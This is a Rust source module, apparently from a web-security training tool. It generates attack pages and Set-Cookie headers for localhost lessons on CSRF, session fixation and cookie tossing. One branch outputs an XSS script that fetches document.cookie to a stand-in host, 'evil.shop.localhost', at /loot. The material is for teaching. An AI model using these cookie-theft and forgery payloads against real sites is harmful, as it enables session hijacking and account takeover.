//! The lines behind the attacks: HTML, and the headers that her server answers with. A page shows
//! the very text that works in it.

use super::topics::Attack;

/// The text of the post that the form of lesson 13 sends; its scenario says the same.
pub(super) const POST: &str = "Mallory was here";

/// The value of `Set-Cookie` in the answer to `POST /plant`: this session ID becomes the browser's.
pub(super) fn planted(name: &str, value: &str) -> String {
    format!(
        "{name}={value}; Path=/; HttpOnly; SameSite=Lax{}",
        secure(name)
    )
}

/// The value of `Set-Cookie` in the answer to `POST /toss`. A browser that takes it has two cookies
/// of that name for the shop. It has to refuse one whose name begins with `__Host-`, since that
/// allows no `Domain` (RFC 6265bis, section 4.1.3.2).
pub(super) fn tossed(name: &str, value: &str) -> String {
    format!(
        "{name}={value}; Domain=shop.localhost; Path=/{}",
        secure(name)
    )
}

/// The attribute without which a browser refuses a name with a prefix.
fn secure(name: &str) -> &'static str {
    if name.starts_with("__") {
        "; Secure"
    } else {
        ""
    }
}

/// The HTML of an attack on the lesson at this port: a form with this word on its button, or a
/// script for the lesson's board.
pub(super) fn html(attack: Attack, button: &str, own_port: u16, lesson_port: u16) -> String {
    match attack {
        Attack::Note | Attack::Plant | Attack::Toss => {
            let action = format!("/{}", attack.word());
            format!(
                "<form method=\"post\" action=\"{action}\">\n  <button>{button}</button>\n</form>"
            )
        }
        Attack::Board => format!(
            "<form method=\"post\" action=\"http://localhost:{lesson_port}/board\">\n  \
             <input type=\"hidden\" name=\"text\" value=\"{POST}\">\n  \
             <button>{button}</button>\n</form>"
        ),
        Attack::Script => format!(
            "<script>if (document.cookie.includes(\"session_id\")) \
             fetch(\"http://evil.shop.localhost:{own_port}/loot?\" + document.cookie); \
             else fetch(\"/board\", {{ method: \"POST\", \
             body: new URLSearchParams({{ text: \"bob is the best!\" }}) }})</script>"
        ),
    }
}

/// The value of `Set-Cookie` that an attack is answered with; `shown` stands for the session ID.
pub(super) fn answer(attack: Attack, name: &str, shown: &str) -> Option<String> {
    match attack {
        Attack::Plant => Some(planted(name, shown)),
        Attack::Toss => Some(tossed(name, shown)),
        Attack::Note | Attack::Board | Attack::Script => None,
    }
}
